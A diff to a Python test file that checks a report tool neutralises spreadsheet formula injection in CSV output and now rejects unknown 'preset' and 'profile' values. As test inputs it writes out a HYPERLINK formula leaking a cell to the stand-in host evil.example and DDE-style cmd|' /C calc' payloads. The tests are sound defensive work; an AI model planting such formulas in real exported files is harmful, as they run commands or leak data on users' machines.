@@ -207,9 +207,7 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
         json.dumps(
             {
                 "name": '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
-                "preset": "+1+cmd|' /C calc'!A0",
                 "model": {"name": "@SUM(1+1)*cmd|' /C calc'!A0"},
-                "datacenter": {"profile": "-2+3+cmd|' /C notepad'!A0"},
             }
         )
     )
@@ -220,7 +218,31 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
     cells = [c for row in csv.reader(out.open()) for c in row]
     risky = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]
     assert risky == []
-    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells and "'-2+3+cmd|' /C notepad'!A0" in cells
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+
+
+def test_preset_and_profile_must_name_known_entries(tmp_path):
+    """Both were free text, so a formula could hide in them (review defect 13): now they name catalog or
+    user-defined entries, and anything else is one line naming the field."""
+    for field, bad in (("preset", "+1+cmd|' /C calc'!A0"), ("profile", "-2+3+cmd|' /C notepad'!A0")):
+        data = {"preset": bad} if field == "preset" else {"datacenter": {"profile": bad}}
+        f = tmp_path / f"{field}.json"
+        f.write_text(json.dumps(data))
+        out = tmp_path / f"{field}.csv"
+        p = run("report", "--scenario", str(f), "--output", str(out), tmp_path=tmp_path)
+        assert p.returncode == 2 and not out.exists()
+        msg = one_line(p)
+        assert ("preset" if field == "preset" else "datacenter.profile") in msg and "is not a known" in msg, (
+            msg
+        )
+    ok = tmp_path / "ok.json"
+    ok.write_text(json.dumps({"preset": "llama31-70b", "datacenter": {"profile": "google_fleet_2023"}}))
+    assert (
+        run(
+            "report", "--scenario", str(ok), "--output", str(tmp_path / "ok.csv"), tmp_path=tmp_path
+        ).returncode
+        == 0
+    )
 
 
 def _number(text):
